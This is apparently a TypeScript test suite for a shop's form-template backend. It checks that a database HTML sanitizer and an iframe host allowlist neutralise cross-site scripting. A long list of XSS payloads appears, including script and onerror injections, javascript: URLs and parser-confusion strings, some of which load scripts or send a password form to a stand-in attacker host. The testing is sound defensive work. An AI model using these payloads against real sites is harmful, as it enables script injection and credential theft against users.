import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { embedHosts } from '../../contracts/index.ts';
import { templateIds, userIds } from '../../seed/ids.ts';
import { type Database, testDatabase } from '../setup/database.ts';
import {
  DRAFT,
  one,
  PUBLISHED,
  publish,
  SAVE,
  type Saved,
  saveAndPublish,
  smallTemplate,
  type WireTemplate,
} from '../setup/example-templates.ts';
import { openHost } from '../setup/open-host.ts';

let host: Awaited<ReturnType<typeof openHost>>;
let database: Database;
const consoleError = console.error;
beforeAll(async () => {
  host = await openHost();
  database = await testDatabase(host.database, () => host.close());
  // The embedded host prints every database error; those of these tests are expected.
  console.error = () => {};
});
afterAll(async () => {
  console.error = consoleError;
  await database.close();
});

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" alt="a" onerror="alert(1)" onload=alert(2)>',
  '<img/src="/a.webp"/onerror="alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/pixel.gif"><img src="/&#47;evil.example/pixel.gif"><img src="/\\evil.example/a.gif">',
  '<svg onload=alert(1)><g><a xlink:href="javascript:alert(1)">x</a></g></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a><a href="javascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a><a href=\'vbscript:x\'>x</a><a href=data:text/html,x>x</a>',
  '<a href="https://shop.example" onclick="alert(1)" style="position:fixed" target=_top id=x name=y class=z>x</a>',
  '<a title=\'" onmouseover="alert(1)\' href="/a">x</a>',
  '<a title="><img src=x onerror=alert(1)>">x</a>',
  '<p style="background:url(javascript:alert(1))" onclick=alert(1)>x</p>',
  '<style>@import "//evil.example/x.css"; p{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="//evil.example/">',
  '<form action="//evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)><html onclick=alert(1)><marquee onstart=alert(1)>x</marquee>',
  '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)> ?>',
  '<img src=x onerror=alert(1)//',
  '<<img src=x onerror=alert(1)>',
  '<p<img src=x onerror=alert(1)>',
  '<x onclick=alert(1)>x</x><my-element onclick=alert(1)>x</my-element>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
];

const tag =
  /<(?:\/?(?:abbr|b|blockquote|br|caption|cite|code|dd|del|details|div|dl|dt|em|figcaption|figure|h[1-6]|hr|i|ins|kbd|li|mark|p|pre|q|s|small|span|strong|sub|summary|sup|table|tbody|tfoot|thead|tr|u|ul|ol|td|th|a|img)(?: (?:title|lang|dir|href|src|alt|width|height|start|colspan|rowspan|scope)="[^"<>]*")*)>/g;

/** Expects only text and allowed tags: no other tag or attribute, no URL that runs code or loads foreign content. */
function expectInert(html: string): void {
  expect(html.replaceAll(tag, '')).not.toContain('<');
  const attributes = (html.match(tag) ?? []).flatMap((found) => [...found.matchAll(/ (href|src)="([^"]*)"/g)]);
  for (const [, name, value = ''] of attributes) {
    expect(value).toMatch(
      name === 'src' ? /^(https:\/\/|\/(?![/\\&]))/i : /^(https?:\/\/|mailto:|tel:|#|\/(?![/\\]))/i,
    );
  }
}

async function clean(texts: readonly string[]): Promise<string[]> {
  const { rows } = await host.database.query<{ clean: string }>(
    'select private.clean_html(x) as clean from unnest($1::text[]) with ordinality as t (x, n) order by n',
    [texts],
  );
  return rows.map((row) => row.clean);
}

/** A template with one field of this type that shows the content, in the current and in the first editor's property. */
function templateShowing(type: 'static_text' | 'iframe', key: 'html' | 'url', content: string) {
  const template = smallTemplate();
  const field = { id: crypto.randomUUID(), name: 'shown', label: 'Zeigt', options: [] };
  const fields: object[] = template.sections[0]?.groups[0]?.fields ?? [];
  fields.push({ ...field, field_type: type, additional_options: { [key]: content } });
  fields.push({ ...field, id: crypto.randomUUID(), name: 'older', field_type: type, default_value: content });
  return template;
}

describe('cleaning', () => {
  it.each(attacks)('[BEY-36] The text %j is made inert', async (attack) => {
    const [cleaned = ''] = await clean([attack]);
    expectInert(cleaned);
    expect(await clean([cleaned])).toEqual([cleaned]);
  });

  it('[BEY-36] Random combinations of attacks are neutralized, and clean html is unchanged', async () => {
    const pieces = fc.constantFrom(
      ...attacks.flatMap((attack) => attack.match(/<|>|[^<>]{1,12}/g) ?? []),
      ...['"', "'", '<!--', '-->', '</', '/>', '&lt;', '=', ' ', '\n', '\u00a0', 'ß'],
    );
    const texts = fc.sample(
      fc.array(pieces, { maxLength: 30 }).map((parts) => parts.join('')),
      3000,
    );
    const once = await clean(texts);
    for (const html of once) expectInert(html);
    expect(await clean(once)).toEqual(once);
  });

  it('The cleaning keeps headings, lists, tables, pictures, links, emphasis and every word', async () => {
    const kept = [
      '<h3>Pflege &amp; Maß</h3><p>Bei <strong>30 Grad</strong> <em>waschen</em>,<br>nicht bügeln: 3 &lt; 4 > 2.</p><hr>',
      '<ul><li>Brust</li><li>Hals</li></ul><ol start="3"><li>Rücken</li></ol>',
      '<table><tbody><tr><th scope="row">Größe</th><td colspan="2">S</td></tr></tbody></table>',
      '<a href="https://example.de/a?b=1&amp;c=2#d" title="Maße">so</a> <a href="/measure">hier</a> <a href="mailto:a@example.de">Mail</a>',
      '<img src="/catalogue/a.webp" alt="Hund im Regen" width="400" height="300">',
    ];
    expect(await clean(kept)).toEqual(kept);
    expect(await clean(['<P CLASS="x">a < b</P><br/>', 'Länge < 40 cm & "gut"'])).toEqual([
      '<p>a &lt; b</p><br>',
      'Länge &lt; 40 cm & "gut"',
    ]);
  });

  it('The words after an unclosed comment or declaration are kept as text', async () => {
    const open = ['Gut <!-- nie <b>zu</b>', 'Gut <!- nie zu', 'Gut <!-- fast zu --', '<? 3 <b', 'a <'];
    const kept = [
      'Gut &lt;!-- nie &lt;b>zu&lt;/b>',
      'Gut &lt;!- nie zu',
      'Gut &lt;!-- fast zu --',
      '&lt;? 3 &lt;b',
      'a &lt;',
    ];
    expect(await clean(open)).toEqual(kept);
    expect(await clean(kept)).toEqual(kept);
  });

  it('Hostile texts are cleaned', async () => {
    const pieces = ['<a "<""', '<!--<!', '<?', '</x <', '<p title="'];
    for (const html of await clean(pieces.map((piece) => piece.repeat(3000)))) expectInert(html);
  });

  it('A text of 1 MB of open comments is cleaned, which would time out in quadratic time', async () => {
    for (const html of await clean(['<!--<!'.repeat(170_000)])) expectInert(html);
  });
});

describe('an admin at the Data API', () => {
  async function admin() {
    const client = host.visitor();
    const { error } = await client.auth.signInWithPassword({ email: 'admin@example.de', password: 'pfotenmass' });
    if (error !== null) throw error;
    return client;
  }

  it('[BEY-36] An admin cannot store an attack by saving, by writing rows or by publishing past the draft', async () => {
    const client = await admin();
    const attack = `<p>Gut</p>${attacks.join('')}`;
    const template = templateShowing('static_text', 'html', attack);
    const { data: saved } = await client
      .rpc('save_form_template', { p_template: template, p_expected_revision: null })
      .throwOnError();
    await host.database.query('select private.publish_form_template($1, $2)', [saved.id, userIds.admin]);
    const { data: published } = await host.visitor().rpc('get_complete_form', { p_template_id: saved.id });
    const contentsOf = (form: WireTemplate) =>
      (form.sections[0]?.groups[0]?.fields ?? []).slice(-2).map((field) => {
        const options = field.additional_options as { html?: string } | null;
        return options?.html ?? String(field.default_value);
      });
    const contents = contentsOf(published);
    expect(contents).toHaveLength(2);
    for (const content of contents) {
      expect(content).toMatch(/^<p>Gut<\/p>/);
      expectInert(content);
    }

    const shown = published.sections[0].groups[0].fields.find(({ name }: { name: string }) => name === 'shown');
    await client
      .from('form_fields')
      .update({ additional_options: { html: attack } })
      .eq('id', shown.id)
      .throwOnError();
    await client
      .from('form_fields')
      .update({ field_type: 'text', additional_options: { html: attack } })
      .eq('id', shown.id)
      .throwOnError();
    const { data: row } = await client.from('form_fields').select('additional_options').eq('id', shown.id).single();
    expectInert(row?.additional_options.html);

    const translations = { en: { 'additional_options.html': { text: attack, of: '<p>Gut</p><script>1</script>' } } };
    await client.from('form_fields').update({ extra: { translations } }).eq('id', shown.id).throwOnError();
    const { data: translated } = await client.from('form_fields').select('extra').eq('id', shown.id).single();
    const html = translated?.extra.translations.en['additional_options.html'];
    expectInert(html.text);
    expect(html.of).toBe('<p>Gut</p>');

    const definition = structuredClone(published);
    for (const field of definition.sections[0].groups[0].fields) {
      field.additional_options = { html: attack };
      field.translations = translations;
    }
    const version = { template_id: saved.id, version: 2, definition, published_by: userIds.admin };
    expect((await client.from('template_versions').insert(version)).error?.code).toBe('42501');
    await host.database.query(
      'insert into public.template_versions (template_id, version, definition, published_by) values ($1, 2, $2, $3)',
      [saved.id, definition, userIds.admin],
    );
    const { data: second } = await host.visitor().rpc('get_complete_form', { p_template_id: saved.id });
    expect(second.version).toBe(2);
    for (const content of contentsOf(second)) expectInert(content);
    for (const field of second.sections[0].groups[0].fields) {
      expectInert(field.translations.en['additional_options.html'].text);
    }
  });

  it.each([
    'http://player.vimeo.com/video/1',
    'https://evil.example/',
    'https://player.vimeo.com.evil.example/',
    'https://player.vimeo.com@evil.example/',
    'https://player.vimeo.com',
    'https://player.vimeo.com/"><script>',
    'javascript:alert(1)//https://player.vimeo.com/',
    '<iframe src="https://player.vimeo.com/video/1"></iframe>',
    'data:text/html,x',
    '//player.vimeo.com/video/1',
  ])('[BEY-36] The frame %j is rejected, with the field and the allowed hosts', async (url) => {
    const client = await admin();
    const { error } = await client.rpc('save_form_template', {
      p_template: templateShowing('iframe', 'url', url),
      p_expected_revision: null,
    });
    expect(error).toMatchObject({
      message: 'invalid_template',
      details:
        'The field "shown" may only show addresses that begin with https://player.vimeo.com/ or https://www.youtube-nocookie.com/.',
    });
  });
});

it('Frames are allowed from the hosts of the shop’s configuration only', () =>
  database.trial(async ({ owner, as }) => {
    expect(await owner.value('select private.embed_hosts()')).toEqual([...embedHosts]);
    for (const url of [...embedHosts.map((name) => `https://${name}/video/1?a=b`), '']) {
      const saved = await saveAndPublish(as, templateShowing('iframe', 'url', url));
      const form = await one<WireTemplate>(as('visitor'), PUBLISHED, [saved.id]);
      const [field] = form.sections[0]?.groups[0]?.fields.slice(-2) ?? [];
      expect(field?.additional_options).toEqual({ url });
    }
  }));

it('A disallowed frame URL stored before this check is removed when publishing', () =>
  database.trial(async ({ owner, as }) => {
    const saved = await one<Saved>(as('admin'), SAVE, [
      templateShowing('iframe', 'url', 'https://player.vimeo.com/1'),
      null,
    ]);
    await owner.query('alter table public.form_fields disable trigger clean_form_field');
    const [stored] = await owner.query(
      `update public.form_fields set additional_options = '{"url": "https://evil.example/"}' where name = 'shown'
       returning additional_options`,
    );
    expect(stored).toEqual({ additional_options: { url: 'https://evil.example/' } });
    expect(await publish(as, saved.id)).toBe(1);
    const form = await one<WireTemplate>(as('visitor'), PUBLISHED, [saved.id]);
    expect(JSON.stringify(form)).not.toContain('evil');
  }));

it('The templates of the shop are unchanged', () =>
  database.trial(async ({ as }) => {
    for (const id of Object.values(templateIds)) {
      const draft = await one<WireTemplate>(as('admin'), DRAFT, [id]);
      await saveAndPublish(as, draft, draft.revision);
      expect(await one<WireTemplate>(as('admin'), DRAFT, [id])).toMatchObject({ version: 1, sections: draft.sections });
    }
  }));
